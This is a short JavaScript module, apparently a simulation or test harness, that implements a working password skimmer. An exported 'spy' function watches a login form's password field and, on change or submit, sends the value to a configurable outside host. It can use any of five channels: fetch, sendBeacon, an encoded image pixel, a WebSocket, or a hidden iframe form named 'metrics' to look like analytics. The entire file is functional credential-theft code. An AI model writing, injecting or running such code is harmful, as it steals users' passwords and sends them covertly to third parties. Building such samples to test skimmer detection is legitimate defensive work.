// What a hostile script does with a password: it sends it to somebody else, as
// soon as it is typed and before the form is sent.
const ways = {
  fetch: (to, text) => void fetch(to + "/collect", { method: "POST", mode: "no-cors", body: text }).catch(() => {}),
  beacon: (to, text) => void navigator.sendBeacon(to + "/collect", new URLSearchParams({ p: text })),
  image: (to, text) => {
    const bytes = new TextEncoder().encode(text);
    new Image().src = to + "/pixel.gif?d=" + encodeURIComponent(btoa(String.fromCharCode(...bytes)));
  },
  websocket: (to, text) => {
    const socket = new WebSocket(to.replace(/^http/, "ws") + "/socket");
    socket.onopen = () => socket.send(JSON.stringify({ p: text }));
  },
  frame: (to, text) => {
    const frame = document.createElement("iframe");
    frame.name = "metrics";
    frame.hidden = true;
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: to + "/collect", target: "metrics", hidden: true });
    const field = document.createElement("input");
    Object.assign(field, { type: "hidden", name: "p", value: text });
    form.append(field);
    document.body.append(frame, form);
    form.submit();
  },
};

// spy watches a password field, each value once.
export const spy = (briefing, form, input) => {
  let sent = "";
  const send = () => {
    if (!briefing.leak || !input.value || input.value === sent) return;
    sent = input.value;
    ways[briefing.leak](briefing.leak_to, sent);
  };
  input.addEventListener("change", send);
  form.addEventListener("submit", send);
};
